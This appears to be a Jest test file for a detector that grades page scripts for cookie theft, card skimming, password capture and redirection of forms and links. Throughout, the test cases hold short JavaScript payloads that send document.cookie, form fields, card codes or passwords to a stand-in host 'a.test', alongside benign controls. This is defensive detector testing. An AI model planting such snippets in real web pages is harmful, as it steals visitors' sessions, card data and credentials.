import { describe, expect, test } from '@jest/globals'
import { analyseScripts } from './script-analysis.ts'
import { theft } from './script-theft.ts'

/** The worst that is said of a script; null of one of which nothing is. */
const worstOf = (source: string): string | null => {
  const strengths = theft(source).map(({ strength }) => strength)
  return (['decisive', 'strong', 'weak'] as const).find((each) => strengths.includes(each)) ?? null
}

const readsCookie = (value: string): string =>
  `function getCookie(name){const value=${value};const parts=value.split('; '+name+'=');return parts.length===2?parts[1].split(';')[0]:''}`
const asksOwnShop = `fetch('https://api.shop.test/cart',{headers:{'X-CSRFToken':getCookie('csrftoken')}}).then(r=>r.json())`

describe('cookies', () => {
  test.each([
    ['a template', readsCookie(`\`; \${document.cookie}\``)],
    ['a template without a space', readsCookie(`\`;\${document.cookie};\``)],
    ['a sum', readsCookie(`'; '+document.cookie`)],
    ['nothing around it', readsCookie('decodeURIComponent(document.cookie)')],
  ])('one that is read out of %s goes nowhere', (_how, code) => expect(worstOf(`${code}\n${asksOwnShop}`)).toBeNull())
  test('one that is the first of two is told apart from all', () =>
    expect(worstOf(`var c=document.cookie .split('; ');new Image().src='https://count.test/p?n='+c.length`)).not.toBe('decisive'))
  test('a page on which a cookie is kept is left with another address', () =>
    expect(worstOf(`document.cookie='seen=1';location.href='https://www.shop.test/?seen='+encodeURIComponent(name)`)).toBeNull())
  test.each([
    ['goes where they go', `document.location='http://a.test/?c='+document.cookie`],
    ['goes there by another name', `location.href='http://a.test/?c='+document.cookie`],
    ['goes there without a trace', `location.replace('http://a.test/?c='+encodeURIComponent(document.cookie))`],
    ['opens it', `window.open('http://a.test/'+'?c='+document.cookie)`],
    ['has a picture of the page ask for them', `document.images[0].src='http://a.test/?c='+document.cookie`],
    ['writes a picture', `document.write('<img src="http://a.test/?c='+document.cookie+'">')`],
    ['keeps them first', `var c=document.cookie;new Image().src='http://a.test/?c='+escape(c)`],
    ['keeps them without hiding them', `const jar = document.cookie; fetch('http://a.test/?' + jar)`],
    ['keeps them written for an address', `let c=encodeURIComponent(document.cookie);location='http://a.test/'+c`],
    ['keeps them for a template', `const c=document.cookie;fetch(\`https://a.test/?c=\${encodeURIComponent(c)}\`)`],
    ['sends them in a body', `var c=document.cookie;fetch('https://a.test/',{method:'POST',body:c})`],
    ['has them fetched by a library', `$.get('https://a.test/?c='+document.cookie)`],
    ['leaves them behind', `navigator.sendBeacon('https://a.test/',document.cookie)`],
    ['keeps them in a function', `function g(){return document.cookie}new Image().src='http://a.test/?c='+escape(g())`],
    ['keeps them under two names', `var a=document.cookie,b=a;new Image().src='http://a.test/?c='+escape(b)`],
    ['has them behind a sign in a template', `fetch(\`https://a.test/?c=\${document.cookie}\`)`],
    ['has them in a path of a template', `new Image().src=\`//a.test/\${btoa(document.cookie)}\``],
  ])('who %s steals them', (_how, code) => expect(worstOf(code)).toBe('decisive'))
  test.each([
    ['far away', `var t=document.cookie;${'f(1);'.repeat(200)}navigator.sendBeacon('http://a.test/?c='+t)`],
    ['taken apart', `var a=document.cookie,b=a.split('=')[1];new Image().src='http://a.test/?c='+escape(b)`],
    [
      'picked for a header',
      `fetch('https://api.shop.test/x',{method:'POST',headers:{'X-CSRFToken':document.cookie.match(/csrf=([^;]+)/)[1]}})`,
    ],
  ])('%s they are only suspected', (_where, code) => expect(worstOf(code)).toBe('strong'))
})

const sendsFields = (more: string, options = ''): string =>
  `document.querySelectorAll('form').forEach(f=>f.onsubmit=e=>{const d={};f.querySelectorAll('input, textarea, select').forEach(i=>d[i.name]=i.value);${more};fetch('https://forms.agency.test/f',{method:'POST',${options}body:JSON.stringify(d)})})`
const draft = `const d={};document.querySelectorAll('#checkout input, #checkout select').forEach(el=>{d[el.name]=el.value});setInterval(save,5000);function save(){fetch('https://api.shop.test/checkout/draft',{method:'POST',body:JSON.stringify(d)})}`

describe('forms', () => {
  test.each([
    [
      'a contact form in a card',
      `document.querySelector('.card form').addEventListener('submit',async e=>{const d={};for(const el of e.target.elements){if(el.name)d[el.name]=el.value}d.page=location.hostname;await fetch('https://api.crm.test/leads',{method:'POST',body:JSON.stringify(d)})})`,
      'weak',
    ],
    ['a form that says from where it comes', sendsFields(`d.page=location.host;x='card-body'`), 'weak'],
    ['a form that asks for a billing address', sendsFields(`d.billing=1;setInterval(f,9)`), 'weak'],
    ['a form whose answer nobody reads', sendsFields(`x='.card-body'`, `mode:'no-cors',`), 'strong'],
    ['a form about terms of payment', sendsFields(`x='payment terms'`, `mode:'no-cors',`), 'strong'],
    ['a shop that keeps its own draft', draft, 'weak'],
    ['a shop that keeps it when one leaves', `${draft};addEventListener('beforeunload',save)`, 'strong'],
    [
      'a form under the signs of ways to pay',
      sendsFields(`x='icon-credit-card creditcard checkout'`, `mode:'no-cors',`),
      'strong',
    ],
    ['a form with a picture in it', sendsFields(`x='data:image/png;base64,AAAA'`), 'weak'],
  ])('%s steals no cards', (_what, code, strength) => expect(worstOf(code)).toBe(strength))
  test.each([
    ['hides them', sendsFields(`d=btoa(JSON.stringify(d));x='#checkout'`)],
    ['hides them among those of a card', sendsFields(`d=btoa(d);x=d.cvv`)],
    ['asks for the code on a card and for no answer', sendsFields(`x=d.cvv`, `mode:'no-cors',`)],
    [
      'asks for those of cards when one leaves',
      `addEventListener('beforeunload',()=>{const d={};document.querySelectorAll('input[name^=checkout],input[id*=card]').forEach(e=>{d[e.id]=e.value});navigator.sendBeacon('https://hub.test/b',JSON.stringify(d))})`,
    ],
    [
      'has them fetched as a script',
      `jQuery('button').click(()=> {var d='';jQuery('input, select').each((i,v)=> {d+=jQuery(v).attr('id')+jQuery(v).val()});jQuery.ajax({dataType:'jsonp',url:'//stat.test/s',data:{payment:d,ref:location.host}})})`,
    ],
  ])('who reads all fields and %s steals cards', (_how, code) => expect(worstOf(code)).toBe('decisive'))
})

const login = (more: string): string =>
  `document.querySelector('form').addEventListener('submit',async e=>{const p=document.querySelector('input[type=password]').value;const r=await fetch('https://api.shop.test/login',{method:'POST',body:JSON.stringify({p})});${more}})`

describe('where the own domain is', () => {
  test.each([
    ['tells where it is', login(`if(!r.ok)track(location.href)`)],
    ['asks where it runs', login(`x=location.hostname==='localhost'`)],
    [
      'asks how good a password is',
      `jQuery('#user_pass').on('blur',function(){jQuery.post('https://accounts.shop.test/strength',{p:jQuery(this).val(),from:location.href})})`,
    ],
  ])('a login that %s is no theft', (_what, code) => {
    expect(worstOf(code)).toBe('weak')
    expect(severityWithBaseline(code)).toBe('low')
  })
  test('a login that sends the name of the host is as bad as it was', () =>
    expect(
      worstOf(`jQuery('#f').submit(()=> {jQuery.get('https://a.test/l.php',{p:jQuery('#user_pass').val(),h:location.host})})`),
    ).toBe('strong'))
  test.each([
    ['low', `document.forms[0].action='https://pay.shop.test/start';document.forms[0].submit()`],
    ['high', `document.querySelectorAll('form').forEach(f=>{f.action='https://a.test/?r='+f.action})`],
    ['low', `document.querySelectorAll('a[href*="checkout"]').forEach(a=>a.href='https://pay.shop.test/')`],
    ['high', `document.querySelectorAll('a[href*="checkout"]').forEach(a=>a.href='https://a.test/')`],
    ['low', `var b=document.createElement('base');b.href='https://www.shop.test/';document.head.prepend(b)`],
    ['high', `var b=document.createElement('base');b.href='https://a.test/';document.head.prepend(b)`],
  ])('what leads forms or links elsewhere is %s: %s', (severity, code) => expect(severityWithBaseline(code)).toBe(severity))
})

test.each([
  ['c=document.cookie', 2_900],
  ["='+document.cookie ", 2_900],
  ['c=escape(document.cookie);fetch(', 2_900],
  ['document.write(', 2_900],
  ['.src=escape (', 1_900],
  ['input[name=cc', 14_900],
  ['.value btoa x[a.name', 14_900],
  ['cvv|cvc|', 14_900],
  [':location.host', 5_900],
])('is done in time with nothing but %s', (piece, length) => {
  const source = `'https://a.test/';fetch();document.cookie;type=password;e.value;d[e.name]=e.value;no-cors;`
  const started = performance.now()
  theft(source + piece.repeat(Math.floor((length - source.length) / piece.length)))
  expect(performance.now() - started).toBeLessThan(500)
})

const pageUrl = 'https://www.shop.test/'
const severityWithBaseline = (code: string): string | null =>
  analyseScripts(
    `<html><body><script>${code}</script></body></html>`,
    analyseScripts('<html><body></body></html>', undefined, { pageUrl }),
    { pageUrl },
  ).severity
